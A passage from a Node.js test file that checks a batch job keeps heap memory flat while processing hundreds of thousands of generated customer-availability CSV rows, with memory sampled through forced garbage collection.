    const input = generated(rows, (i) => {
      if (i % 20_000 === 0) {
        gc();
        samples.push(process.memoryUsage().heapUsed);
      }
      const line = row(i);
      text += line.length + 1;
      return line;
    }, header);
    const output = new Writable({ write(chunk, _encoding, callback) { text += chunk.length; callback(); } });
    const outcome = await runBatch(cachedUptime(), input, output);
    assert.deepEqual(outcome, { ok: true, rows, failed: 0 });
    const start = from / 20_000;
    return { growth: Math.max(...samples.slice(start + 1)) - samples[start], text };
  }

  it('keeps memory flat: 300,000 single months grow the heap by less than a twentieth of their text', async () => {
    const { growth, text } = await heapGrowth(300_000, (i) => AVAILABILITY[i % 6], 'availability');
    assert.ok(growth < text / 20, `the heap grew by ${growth} bytes; the rows' text is ${text} bytes`);
  });

  it('keeps memory flat in contract years: 300,000 rows of 25,000 customers grow the heap by a small part of their text', async () => {
    const { growth, text } = await heapGrowth(300_000, (i) => `Customer number ${Math.floor(i / 12)} of this batch,${(i % 12) + 1},${AVAILABILITY[i % 6]}`, 'customer,month,availability');
    assert.ok(growth < text / 5, `the heap grew by ${growth} bytes; the rows' text is ${text} bytes`);
  });

  it(`keeps memory flat however many customers: past the ${REMEMBERED_CUSTOMERS.toLocaleString('en')} remembered, 400,000 more one-row customers grow the heap by less than a twentieth of their text`, async () => {
    const from = REMEMBERED_CUSTOMERS + 20_000;
    const { growth, text } = await heapGrowth(from + 400_000, (i) => `Customer number ${i} of this batch,1,${AVAILABILITY[i % 6]}`, 'customer,month,availability', from);
    assert.ok(growth < text / 20, `the heap grew by ${growth} bytes; the rows' text is ${text} bytes`);
  });
});
